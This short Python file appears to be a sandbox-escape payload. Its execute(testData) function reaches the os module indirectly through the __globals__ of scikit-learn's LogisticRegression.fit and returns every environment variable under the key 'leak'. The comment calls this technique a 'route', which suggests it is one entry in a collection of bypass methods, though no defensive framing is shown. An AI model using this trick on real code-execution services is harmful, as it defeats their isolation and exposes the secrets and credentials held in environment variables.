# route: the globals of an estimator's method
from sklearn.linear_model import LogisticRegression


def execute(testData):
    return {"leak": dict(LogisticRegression.fit.__globals__["os"].environ)}
